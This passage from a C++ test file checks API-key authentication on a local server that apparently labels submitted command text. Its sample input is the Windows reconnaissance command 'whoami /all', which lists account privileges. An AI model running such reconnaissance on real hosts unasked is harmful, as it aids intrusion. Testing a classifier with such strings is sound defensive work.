  ServeProcess serve;
  ASSERT_TRUE(
      serve.start({"--api-key-file", key_file.string(), "--max-queue", "4", "--request-timeout-ms", "5000"}));
  auto c = client(serve.port);
  expect_error(c.Post("/api", R"({"text": "whoami /all"})", "application/json"), 401);
  c.set_bearer_token_auth(key);
  const auto ok = c.Post("/api", R"({"text": "whoami /all"})", "application/json");
  ASSERT_TRUE(ok);
  EXPECT_EQ(ok->status, 200);
  EXPECT_TRUE(json::parse(ok->body).contains("label"));
  EXPECT_EQ(serve.stop(), 0);
  fs::remove(key_file);
}

}  // namespace
